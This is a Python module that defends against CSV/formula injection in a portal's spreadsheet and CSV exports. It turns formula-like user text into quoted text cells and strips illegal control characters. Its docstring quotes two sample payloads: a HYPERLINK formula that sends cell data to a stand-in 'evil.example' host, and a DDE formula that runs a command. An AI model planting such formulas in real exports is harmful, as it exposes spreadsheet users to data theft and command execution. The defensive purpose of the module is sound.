"""Cells a user typed, written so that no spreadsheet evaluates them (OWASP CSV injection).

An alliance called ``=HYPERLINK("http://evil.example/?"&A1,"click")`` or a task division
``=cmd|' /C calc'!A0`` would become a live formula on a reviewer's computer. Every cell a
user can influence, in every workbook and CSV the portal builds, goes through this module:

* ``is_formula_like(value)``: the one rule — a text starting with ``=``, ``+``, ``-``,
  ``@``, a tab or a carriage return;
* ``xlsx_row(sheet, values)``: such texts become text cells with Excel's quote prefix
  (shown unchanged, never evaluated); other values pass as they are;
* ``csv_value(value)``: such texts get a leading apostrophe (CSV has no cell types).

A workbook cannot hold most control characters at all: openpyxl refuses the whole file
(``IllegalCharacterError``), so one alliance named with an ESC would stop every export
that lists it. They are dropped from the cell; the text is otherwise kept.
"""

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def xlsx_cell(sheet, value):
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not is_formula_like(value):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl made it a formula ("f"): text, whatever it says
    cell.quotePrefix = True  # what Excel records when a user types '=…
    return cell


def xlsx_row(sheet, values) -> list:
    """``values`` ready for ``sheet.append`` (write-only or ordinary worksheets)."""
    return [xlsx_cell(sheet, value) for value in values]


def csv_value(value):
    return f"'{value}" if is_formula_like(value) else value


def csv_row(values) -> list:
    return [csv_value(value) for value in values]
